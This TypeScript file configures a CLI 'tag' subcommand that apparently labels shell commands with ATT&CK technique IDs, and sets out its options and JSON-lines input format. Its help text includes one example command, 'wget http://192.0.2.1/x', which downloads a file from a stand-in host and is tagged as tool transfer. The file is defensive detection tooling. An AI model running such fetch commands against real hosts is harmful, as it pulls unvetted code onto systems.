// SPDX-License-Identifier: AGPL-3.0-or-later
import { Option, type Command } from 'commander';
import { addSettingsOptions, RULES, settingsFrom } from './settings-options';

export function configure(command: Command): void {
  command
    .addOption(new Option('--format <format>', 'what to print').choices(['predictions', 'tags']).default('predictions'))
    .addHelpText(
      'after',
      `
Reads one JSON object a line: {"id":"row 1","commands":["uname -a","wget http://192.0.2.1/x"]}, or a tagger event
{"source_kind":"command","source_id":"s#0","payload":{"command_text":"uname -a"}}.
Prints, for each command with a technique, {"id":"row 1","command_index":1,"technique_ids":["T1105"]}; with --format tags one whole tag a line.

Examples:
  echo '{"id":"row 1","commands":["uname -a"]}' | ttp tag
  ttp tag --rules my-rules --confidence-floor 0.5 --format tags < events.jsonl

A line that cannot be read is reported on stderr and skipped; the exit code is then 1.`,
    );
  addSettingsOptions(command, [...RULES, 'confidence-floor']).action(async (_options, invoked: Command) => {
    const { settings } = settingsFrom(invoked);
    process.exitCode = await (await import('../tag/run-tag')).runTag(settings, invoked.opts<{ format: 'predictions' | 'tags' }>().format);
  });
}
